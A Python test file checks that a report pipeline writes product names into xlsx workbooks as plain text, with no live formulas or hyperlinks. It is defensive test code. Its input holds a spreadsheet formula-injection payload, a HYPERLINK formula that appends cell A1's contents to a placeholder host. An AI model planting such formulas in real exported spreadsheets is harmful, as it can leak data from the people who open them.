"""Report workbooks keep text as text: a 商品名称 that looks like a formula or a URL never becomes live."""

from __future__ import annotations

import io
import zipfile

import openpyxl
import pandas as pd

from jd_pipeline.reporting.model import Report, Section, Table
from jd_pipeline.reporting.render import render_xlsx

FORMULA = '=HYPERLINK("http://x"&A1,"点我")'


def test_text_that_looks_like_a_formula_stays_text() -> None:
    frame = pd.DataFrame(
        {"商品名称": [FORMULA, "http://example.invalid/a", "普通商品"], "gmv": [1.0, 2.0, 3.0]}
    )
    report = Report(
        kind="monthly_business_review",
        brand="acme",
        period="2026-03",
        title="t",
        file_stem="t",
        sections=[Section("s", tables=[Table("商品", "商品", frame, {"gmv": "money"})])],
    )
    data = render_xlsx(report)
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        xml = "".join(z.read(n).decode("utf-8") for n in sheets)
        assert "<f>" not in xml and "<f " not in xml  # no formula cell anywhere
        assert not any(n.startswith("xl/worksheets/_rels/") for n in z.namelist())  # no hyperlinks
    ws = openpyxl.load_workbook(io.BytesIO(data))["商品"]
    values = [ws.cell(row=r, column=1).value for r in range(1, ws.max_row + 1)]
    assert FORMULA in values and "http://example.invalid/a" in values
    assert ws.cell(row=values.index(FORMULA) + 1, column=1).data_type == "s"
